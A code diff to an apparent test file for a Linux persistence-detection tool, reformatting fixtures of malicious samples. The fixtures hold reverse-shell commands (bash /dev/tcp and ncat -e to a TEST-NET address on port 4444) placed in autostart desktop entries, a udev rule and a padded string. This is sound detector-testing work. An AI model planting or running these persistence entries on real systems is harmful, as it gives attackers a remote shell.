@@ -18,7 +18,7 @@ from hardening.hunt.payload import ansi_c, judge
 from hardening.hunt.persistence import parse_persistence
 
 sys.path.insert(0, str(Path(__file__).parent))
-from test_persistence import run_piece  # noqa: E402
+from test_persistence import run_piece
 
 IP = "192.0.2.1"  # TEST-NET-1: nothing connects, the text is only read
 LONG = ": " + "A" * 3000 + f"; bash -i >& /dev/tcp/{IP}/4444 0>&1 &\n"
@@ -44,7 +44,9 @@ MALICIOUS: dict[str, str] = {
     # udev's RUN{program}+= is RUN+=
     "etc/udev/rules.d/99-x.rules": 'ACTION=="add", RUN{program}+="/dev/shm/u"\n',
     # the desktop session runs an autostart entry's Exec= at login
-    "root/.config/autostart/upd.desktop": f'[Desktop Entry]\nType=Application\nExec=sh -c "ncat {IP} 4444 -e /bin/sh"\n',
+    "root/.config/autostart/upd.desktop": (
+        f'[Desktop Entry]\nType=Application\nExec=sh -c "ncat {IP} 4444 -e /bin/sh"\n'
+    ),
     "etc/xdg/autostart/x.desktop": f"[Desktop Entry]\nExec=bash -c 'bash -i >& /dev/tcp/{IP}/4444 0>&1'\n",
 }
 MEDIUM: dict[str, str] = {
